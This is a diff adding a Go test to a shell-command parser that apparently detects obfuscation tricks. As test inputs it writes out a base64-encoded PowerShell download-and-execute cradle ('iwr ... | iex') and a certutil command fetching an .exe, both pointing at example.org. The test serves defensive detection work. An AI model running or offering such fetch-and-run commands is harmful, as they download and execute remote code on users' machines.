@@ -123,3 +123,24 @@ func TestPipes(t *testing.T) {
 		t.Errorf("pipes: %+v", l.Commands)
 	}
 }
+
+// Shell grammar that looks like a trick is none: case patterns, and a
+// PowerShell command line is read as commands.
+func TestGrammar(t *testing.T) {
+	l := Parse("case \"$OSTYPE\" in\n  darwin*|macos*) brew install jq ;;\n  linux*) apt-get install -y jq ;;\n  *) echo unknown ;;\nesac")
+	if len(l.Tricks) > 0 {
+		t.Errorf("case statement: tricks %v", l.Tricks)
+	}
+	if !strings.Contains(l.Text(), "brew install jq\n") || !strings.Contains(l.Text(), "apt-get install -y jq\n") {
+		t.Errorf("case statement reads as %q", l.Text())
+	}
+	// "iwr https://example.org/a.ps1 | iex", UTF-16LE, base64.
+	l = Parse("powershell -NoProfile -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AYQAuAHAAcwAxACAAfAAgAGkAZQB4AA==")
+	if !strings.Contains(l.Text(), "iwr https://example.org/a.ps1\n") || len(l.Tricks) == 0 || l.Tricks[0].Trick != Decoded {
+		t.Errorf("encoded PowerShell reads as %q, tricks %v", l.Text(), l.Tricks)
+	}
+	l = Parse(`cmd /c "certutil -urlcache -f http://example.org/a.exe a.exe"`)
+	if !strings.Contains(l.Text(), "certutil -urlcache") {
+		t.Errorf("cmd /c reads as %q", l.Text())
+	}
+}
